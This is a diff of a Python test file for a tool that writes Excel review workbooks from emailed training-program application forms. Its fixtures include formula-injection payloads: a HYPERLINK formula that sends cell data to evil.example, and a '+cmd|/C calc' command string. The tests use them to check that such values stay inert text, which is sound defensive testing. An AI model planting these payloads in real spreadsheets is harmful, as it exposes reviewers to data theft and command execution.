@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import re
 from dataclasses import replace
 from datetime import datetime
 from pathlib import Path
@@ -15,8 +16,11 @@ from openpyxl.worksheet.worksheet import Worksheet
 from core.fields import FormFields
 from core.flags import Flag
 from core.records import MessageRecord
-from reports.workbook import REVIEW_CHOICES, backup_path, write_workbook
-from tests.test_reports_factory import TZ, make_attachment, make_form, make_message, make_run
+from reports.projects import REVIEW_CHOICES
+from reports.workbook import backups, write_workbook
+from tests.test_reports_factory import TZ, cell_link, make_attachment, make_form, make_message, make_run
+
+SHEETS = ["汇总", "申报项目", "补正清单", "统计", "问题清单", "邮件日志", "附件", "技术信息"]
 
 
 def _header(ws: Worksheet) -> dict[str, int]:
@@ -28,10 +32,20 @@ def _column(ws: Worksheet, header: str) -> list[object]:
     return [ws.cell(row=r, column=col).value for r in range(2, ws.max_row + 1)]
 
 
+def _number_of(ws: Worksheet, form_id: str) -> int:
+    """受理号 of a form, from 技术信息 (the one sheet that shows internal ids)."""
+    tech = ws.parent["技术信息"]
+    for number, fid in zip(_column(tech, "受理号"), _column(tech, "表单编号"), strict=True):
+        if fid == form_id:
+            return int(number)  # type: ignore[arg-type]
+    raise AssertionError(f"{form_id} not in 技术信息")
+
+
 def _row_of(ws: Worksheet, form_id: str) -> int:
-    col = _header(ws)["表单编号"]
+    number = _number_of(ws, form_id)
+    col = _header(ws)["受理号"]
     for r in range(2, ws.max_row + 1):
-        if ws.cell(row=r, column=col).value == form_id:
+        if ws.cell(row=r, column=col).value == number:
             return r
     raise AssertionError(f"{form_id} not in {ws.title}")
 
@@ -86,17 +100,18 @@ def book(tmp_path: Path) -> Book:
 
 def test_sheets_and_project_headers(book: Book) -> None:
     _, wb, _ = book
-    assert wb.sheetnames == ["汇总", "申报项目", "问题清单", "邮件日志", "附件", "通知"]
+    assert wb.sheetnames == SHEETS
     headers = list(_header(wb["申报项目"]))
-    assert headers[0] == "项目名称"
+    assert headers[:4] == ["序号", "受理号", "项目名称", "申报单位"]
     for label in (
         "问题",
         "状态",
         "办班天数",
         "收到时间",
         "发件人",
-        "源文件",
-        "表单编号",
+        "审核页",
+        "Word原件",
+        "PDF原件",
         "推荐级别",
         "审核意见",
         "审核人",
@@ -132,6 +147,7 @@ def test_one_row_per_form_with_values_and_types(book: Book) -> None:
     assert ws.cell(row=r, column=h["状态"]).value == "材料齐全"
     assert ws.cell(row=r, column=h["申报项目类别"]).value == "自筹经费项目"
     assert ws.cell(row=r, column=h["PDF公章"]).value == "未检查"
+    assert ws.cell(row=r, column=h["序号"]).value == 1 and ws.cell(row=r, column=h["受理号"]).value == 1
 
 
 def test_flags_status_and_highlights(book: Book) -> None:
@@ -152,18 +168,33 @@ def test_flags_status_and_highlights(book: Book) -> None:
     assert late_fill != ws.cell(row=_row_of(ws, "F0000"), column=h["培训对象"]).fill.fgColor.rgb
 
 
+_OWN_LINK = r'=HYPERLINK\("(原件|审核页)/[^"]+","(打开|查看)"\)'
+
+
+def _formulas(wb: openpyxl.Workbook) -> list[tuple[str, str]]:
+    return [
+        (ws.title, str(c.value))
+        for ws in wb.worksheets
+        for row in ws.iter_rows()
+        for c in row
+        if c.data_type == "f"
+    ]
+
+
 def test_formula_like_values_stay_text(book: Book) -> None:
-    path, wb, _ = book
+    _, wb, _ = book
     ws = wb["申报项目"]
-    cell = ws.cell(row=_row_of(ws, "F0001"), column=1)
+    cell = ws.cell(row=_row_of(ws, "F0001"), column=_header(ws)["项目名称"])
     assert cell.value == '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
     assert cell.data_type == "s"
     log = wb["邮件日志"]
     assert "@SUM(1+1)" in _column(log, "主题")
-    import zipfile
-
-    with zipfile.ZipFile(path) as z:
-        assert not any(b"<f>" in z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
+    # the only formulas are intake's own: counts on 汇总, links to the files it made on 申报项目
+    formulas = _formulas(wb)
+    assert formulas and all(
+        (t == "汇总" and f.startswith("=COUNTIF")) or (t == "申报项目" and re.fullmatch(_OWN_LINK, f))
+        for t, f in formulas
+    )
 
 
 def test_illegal_characters_removed_and_long_text_capped(book: Book) -> None:
@@ -171,32 +202,65 @@ def test_illegal_characters_removed_and_long_text_capped(book: Book) -> None:
     ws = wb["申报项目"]
     r = _row_of(ws, "F0002")
     h = _header(ws)
-    assert ws.cell(row=r, column=1).value == "+cmd\n|'/C calc'"
+    assert ws.cell(row=r, column=h["项目名称"]).value == "+cmd\n|'/C calc'"
     assert len(ws.cell(row=r, column=h["研修目的和作用"]).value) <= 32_000
 
 
 def test_every_mail_in_log_including_failed(book: Book) -> None:
     _, wb, msgs = book
     log = wb["邮件日志"]
-    assert _column(log, "邮件编号") == [m.key for m in msgs]
+    assert _column(log, "序号") == [1, 2, 3, 4]
+    assert _column(log, "主题") == [m.subject for m in msgs]
     assert _column(log, "处理结果")[3] == "处理失败"
-    assert isinstance(_column(log, "收到时间（北京时间）")[0], datetime)
+    assert isinstance(_column(log, "收到时间")[0], datetime)
+    assert list(dict.fromkeys(_column(wb["技术信息"], "邮件编号"))) == [m.key for m in msgs]
     flags = wb["问题清单"]
     assert "处理失败" in _column(flags, "问题") and "缺填项" in _column(flags, "问题")
 
 
-def test_attachment_hyperlink_is_relative_to_archived_copy(book: Book) -> None:
+def test_originals_beside_the_workbook_under_readable_names(book: Book) -> None:
     path, wb, _ = book
-    ws = wb["附件"]
+    projects = wb["申报项目"]
+    ph = _header(projects)
+    row = _row_of(projects, "F0000")
+    target = cell_link(projects.cell(row=row, column=ph["Word原件"]))
+    assert target == "原件/宜昌市第0人民医院/数字经济与产业升级高级研修班0/申报表0.docx"
+    assert (path.parent / target).read_bytes() == b"docx"
+    assert cell_link(projects.cell(row=row, column=ph["PDF原件"])) is None  # no archived copy: no link
+    page = cell_link(projects.cell(row=row, column=ph["审核页"]))
+    assert page == "审核页/第0001号.html" and (path.parent / page).is_file()
+
+
+def test_attachments_sheet_lists_what_is_not_a_form(tmp_path: Path) -> None:
+    (tmp_path / "data").mkdir()
+    (tmp_path / "data" / "x.jpg").write_bytes(b"j" * 3000)
+    extra = replace(
+        make_attachment(
+            "照片.jpg", status="ignored", archive_path="x.jpg", detail="不是申报表格式（Word/PDF）"
+        ),
+        kind="other",
+        size=3000,
+    )
+    m = make_message(0)
+    m = replace(
+        m,
+        attachments=(
+            *m.attachments,
+            extra,
+            make_attachment("坏.docx", status="unreadable", detail="文件已损坏"),
+        ),
+    )
+    path = tmp_path / "out" / "w.xlsx"
+    write_workbook(path, [m], make_run(), tz=TZ, data_dir=tmp_path / "data")
+    ws = openpyxl.load_workbook(path)["附件"]
     h = _header(ws)
-    assert ws.cell(row=2, column=h["文件名"]).value == "申报表0.docx"
-    first = ws.cell(row=2, column=h["原件"])
-    target = first.hyperlink.target
-    assert not target.startswith("/") and (path.parent / target).resolve().read_bytes() == b"docx"
-    assert ws.cell(row=2, column=h["归档副本"]).hyperlink.target == target
-    assert ws.cell(row=3, column=h["原件"]).hyperlink is None  # no archived copy on disk: no link
-    src = wb["申报项目"].cell(row=2, column=_header(wb["申报项目"])["原件"])
-    assert src.hyperlink is not None and src.hyperlink.target == target
+    assert _column(ws, "文件名") == ["照片.jpg", "坏.docx"]  # the form's Word and PDF are on its row
+    assert (
+        ws.cell(row=2, column=h["文件名"]).hyperlink.target == "原件/宜昌市第0人民医院/其他附件/照片.jpg.bin"
+    )  # kind unknown: .bin
+    assert (path.parent / "原件/宜昌市第0人民医院/其他附件/照片.jpg.bin").read_bytes() == b"j" * 3000
+    assert _column(ws, "大小") == ["2.9 KB", "12.1 KB"] and _column(ws, "类型") == ["其他", "Word 文档"]
+    assert _column(ws, "状态") == ["已忽略", "无法读取"] and _column(ws, "序号") == [1, 2]
 
 
 def test_dropdown_on_recommendation_column(book: Book) -> None:
@@ -217,30 +281,43 @@ def test_summary_links_to_sheets_and_choice_colours(book: Book) -> None:
     formulas = {f for cf in rules for rule in cf.rules for f in rule.formula}
     assert {f'"{c}"' for c in REVIEW_CHOICES} <= formulas
     ws = wb["申报项目"]
-    assert "请勿修改或删除" in ws.cell(row=1, column=_header(ws)["表单编号"]).comment.text
+    assert "请勿修改" in ws.cell(row=1, column=_header(ws)["受理号"]).comment.text
 
 
 def test_layout_frozen_filter_print(book: Book) -> None:
     _, wb, _ = book
     ws = wb["申报项目"]
-    assert ws.freeze_panes == "B2"
+    assert ws.freeze_panes == "D2"
     assert ws.auto_filter.ref.startswith("A1:")
     assert ws.page_setup.orientation == "landscape" and ws.page_setup.fitToWidth == 1
     assert ws.print_title_rows == "$1:$1"
-    # wide characters count double: the 项目名称 column is wider than its ASCII-length would give
-    assert ws.column_dimensions["A"].width >= 2 * len("数字经济与产业升级高级研修班0") - 1
+    assert ws.print_area == "'申报项目'!$A$1:$K$4"  # the key columns: 序号 … 审核人
+    assert "&P" in ws.oddFooter.center.text and "申报项目" in ws.oddHeader.center.text
+    assert "2024年12月22日" in ws.oddHeader.right.text
+    # wide characters count double: 项目名称 takes its cap (26) although the text is 15 characters long
+    assert ws.column_dimensions["C"].width == 26 and ws.column_dimensions["A"].width < 10
+
+
+def _pairs(ws: Worksheet, col: int) -> dict[object, object]:
+    return {
+        ws.cell(row=r, column=col).value: ws.cell(row=r, column=col + 1).value
+        for r in range(1, ws.max_row + 1)
+    }
 
 
 def test_summary_counts(book: Book) -> None:
     _, wb, _ = book
     ws = wb["汇总"]
-    pairs = {ws.cell(row=r, column=1).value: ws.cell(row=r, column=2).value for r in range(1, ws.max_row + 1)}
-    assert pairs["邮件总数"] == 4 and pairs["申报表总数"] == 3
-    assert pairs["逾期提交"] == 1 and pairs["处理失败邮件"] == 1 and pairs["本次新增邮件"] == 1
-    regions = {
-        ws.cell(row=r, column=7).value: ws.cell(row=r, column=8).value for r in range(1, ws.max_row + 1)
-    }
-    assert regions.get("宜昌市") == 3
+    mails = _pairs(ws, 4)
+    assert mails["邮件总数"] == 4 and mails["其中逾期邮件"] == 1 and mails["处理失败邮件"] == 1
+    counts = _pairs(ws, 1)
+    status = openpyxl.utils.get_column_letter(_header(wb["申报项目"])["状态"])
+    assert counts["有效申报表"] == f"=COUNTIF('申报项目'!${status}$2:${status}$4,\"<>已被替代\")"
+    assert counts["逾期"] == f"=COUNTIF('申报项目'!${status}$2:${status}$4,\"逾期\")"
+    assert str(_pairs(ws, 4)["本次新增邮件"]).startswith("=COUNTIF('邮件日志'!$I$2:$I$5")
+    stats = wb["统计"]
+    regions = {r[1]: r[6] for r in stats.iter_rows(values_only=True) if r and len(r) > 6}
+    assert regions.get("宜昌市") == 3 and regions.get("合计") == 3
 
 
 def _review(path: Path, form_id: str, level: str, opinion: str, who: str) -> None:
@@ -277,13 +354,7 @@ def test_reviewer_columns_survive_two_regenerations(tmp_path: Path) -> None:
     assert ws.cell(row=r2, column=h["审核意见"]).value == "=不是公式"
     assert ws.cell(row=r2, column=h["审核意见"]).data_type == "s"
     assert ws.cell(row=_row_of(ws, "F0000"), column=h["推荐级别"]).value is None
-    assert backup_path(path).exists()
-    summary = openpyxl.load_workbook(path)["汇总"]
-    progress = {
-        summary.cell(row=r, column=1).value: summary.cell(row=r, column=2).value
-        for r in range(1, summary.max_row + 1)
-    }
-    assert progress["推荐省级"] == 1 and progress["不推荐"] == 1 and progress["未填写"] == 1
+    assert len(backups(path)) == 2
 
 
 def test_removed_form_keeps_review_on_removed_sheet_and_comes_back(tmp_path: Path) -> None:
@@ -316,15 +387,15 @@ def test_review_in_a_row_without_form_id_is_kept_on_removed_sheet(tmp_path: Path
     _review(path, "F0000", "推荐国家级", "很好", "赵六")
     wb = openpyxl.load_workbook(path)
     ws = wb["申报项目"]
-    ws.delete_cols(_header(ws)["表单编号"])  # a reviewer tidying up columns
+    ws.delete_cols(_header(ws)["受理号"])  # a reviewer tidying up columns
     wb.save(path)
     for _ in range(2):
         write_workbook(path, msgs, make_run(), tz=TZ, data_dir=tmp_path / "data")
     removed = openpyxl.load_workbook(path)["已移除"]
     opinions = _column(removed, "审核意见")
     assert opinions.count("很好") == 1
-    ids = _column(removed, "表单编号")
-    assert ids[opinions.index("很好")] == "（无表单编号）数字经济与产业升级高级研修班0"
+    ids = _column(removed, "记录")
+    assert ids[opinions.index("很好")] == "（无受理号）数字经济与产业升级高级研修班0"
 
 
 def test_reviewer_saving_during_rebuild_is_not_overwritten(
@@ -364,7 +435,8 @@ def test_empty_store_and_no_leftover_temp_files(tmp_path: Path) -> None:
     path = tmp_path / "申报汇总.xlsx"
     write_workbook(path, [], make_run(), tz=TZ, data_dir=tmp_path)
     write_workbook(path, [], make_run(), tz=TZ, data_dir=tmp_path)
-    assert sorted(p.name for p in tmp_path.iterdir()) == ["申报汇总.bak.xlsx", "申报汇总.xlsx"]
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["备份", "申报汇总.xlsx"]
+    assert [p.parent.name for p in backups(path)] == ["备份"]
     assert openpyxl.load_workbook(path)["申报项目"].max_row == 1
 
 
@@ -378,7 +450,7 @@ def test_superseded_form_shows_status(tmp_path: Path) -> None:
     ws = openpyxl.load_workbook(path)["申报项目"]
     h = _header(ws)
     assert ws.cell(row=_row_of(ws, "F0000"), column=h["状态"]).value == "已被替代"
-    assert ws.cell(row=_row_of(ws, "F0000"), column=h["替代为"]).value == "F0001"
+    assert ws.cell(row=_row_of(ws, "F0000"), column=h["替代情况"]).value == "已被第 2 号替代"
 
 
 _junk_text = st.text(alphabet=st.characters(min_codepoint=0, max_codepoint=0x10FFFF), max_size=40)
@@ -430,7 +502,7 @@ def test_any_junk_in_records_still_saves(
     write_workbook(path, [msg], make_run(), tz=TZ, data_dir=tmp_path)
     wb = openpyxl.load_workbook(path)
     assert wb["申报项目"].max_row == 2
-    assert not any(c.data_type == "f" for ws in wb.worksheets for row in ws.iter_rows() for c in row)
+    assert all(t == "汇总" or re.fullmatch(_OWN_LINK, f) for t, f in _formulas(wb))
 
 
 def test_streamed_rows_past_the_width_sample_from_an_iterator(tmp_path: Path) -> None:
@@ -444,7 +516,7 @@ def test_streamed_rows_past_the_width_sample_from_an_iterator(tmp_path: Path) ->
     assert wb.sheetnames[0] == "汇总" and wb.active.title == "汇总"
     ws = wb["申报项目"]
     assert ws.max_row == n + 1
-    assert _column(ws, "表单编号")[-1] == f"F{n - 1:04d}"
+    assert _column(ws, "受理号")[-1] == n and _column(wb["技术信息"], "表单编号")[-1] == f"F{n - 1:04d}"
     # every row, the last one too, gets a height that fits its wrapped text (3 lines of 研修目的和作用)
     assert ws.row_dimensions[n + 1].height is not None and ws.row_dimensions[n + 1].height > 30
     assert ws.auto_filter.ref.endswith(str(n + 1))
@@ -456,26 +528,8 @@ def test_every_sheet_prints_fitted_to_page_width(book: Book) -> None:
     _, wb, _ = book
     for ws in wb.worksheets:
         assert ws.sheet_properties.pageSetUpPr.fitToPage, ws.title
-        assert ws.page_setup.fitToWidth == 1 and ws.page_setup.orientation == "landscape"
-
-
-def test_quick_review_reader_agrees_with_openpyxl(tmp_path: Path) -> None:
-    from reports.fastread import read_columns
-
-    msgs = [make_message(i) for i in range(3)]
-    path = tmp_path / "w.xlsx"
-    write_workbook(path, msgs, make_run(), tz=TZ, data_dir=tmp_path)
-    _review(path, "F0001", "推荐省级", "补 手机号\n第二行", "张三")
-    quick = read_columns(path, "申报项目", ("表单编号", "推荐级别", "审核意见", "审核人"))
-    ws = openpyxl.load_workbook(path, read_only=True)["申报项目"]
-    full = list(ws.iter_rows(values_only=True))
-    h = {v: i for i, v in enumerate(full[0])}
-    assert quick is not None and len(quick) == len(full) == 4
-    for q, f in zip(quick[1:], full[1:], strict=False):
-        for name in ("表单编号", "推荐级别", "审核意见", "审核人"):
-            assert q[h[name]] == f[h[name]]
-    assert quick[2][h["审核意见"]] == "补 手机号\n第二行"
-    assert read_columns(path, "没有这张表", ("表单编号",)) is None
+        assert ws.page_setup.fitToWidth == 1 and int(ws.page_setup.paperSize) == 9  # A4
+        assert ws.page_setup.orientation == ("portrait" if ws.title == "统计" else "landscape"), ws.title
 
 
 class _Reiterable:
@@ -495,10 +549,7 @@ def _contents(path: Path) -> list[tuple[str, list[tuple[object, ...]], str | Non
     return [
         (
             ws.title,
-            [
-                tuple((c.value, c.fill.fgColor.rgb, c.hyperlink.target if c.hyperlink else None) for c in row)
-                for row in ws.iter_rows()
-            ],
+            [tuple((c.value, c.fill.fgColor.rgb, cell_link(c)) for c in row) for row in ws.iter_rows()],
             ws.auto_filter.ref,
         )
         for ws in wb.worksheets
@@ -577,7 +628,7 @@ def _count_from_a_list(messages: list, run: object) -> object:
         mails_late=sum(is_late(m) for m in messages),
         mails_failed=sum(m.outcome == "failed" or m.key in run.failed_keys for m in messages),
         mails_new=sum(m.key in run.new_keys for m in messages),
-        mails_changed=sum(m.key in run.changed_keys for m in messages),
+        mails_changed=sum(m.key in run.changed_keys and m.key not in run.new_keys for m in messages),
         forms=len(rows),
         forms_current=len(current),
         forms_on_time=len(current) - late,
@@ -585,14 +636,14 @@ def _count_from_a_list(messages: list, run: object) -> object:
         forms_complete=complete,
         forms_incomplete=len(current) - complete,
         forms_new=sum(r.message.key in run.new_keys for r in rows),
-        forms_changed=sum(r.message.key in run.changed_keys for r in rows),
+        forms_changed=sum(
+            r.message.key in run.changed_keys and r.message.key not in run.new_keys for r in rows
+        ),
         by_flag=ranked(flags),
         by_industry=ranked(
             Counter(text_or(r.form.fields.to_json().get("industry_field"), "未填写") for r in current)
         ),
-        by_funding=ranked(
-            Counter(funding_label(r.form.fields.to_json().get("funding_type")) for r in current)
-        ),
+        by_funding=ranked(Counter(funding_label(r.form.fields.funding_type, r.form.flags) for r in current)),
         by_region=ranked(Counter(guess_region(r.form.fields) for r in current)),
         by_unit_type=ranked(Counter(guess_unit_type(r.form.fields) for r in current)),
     )
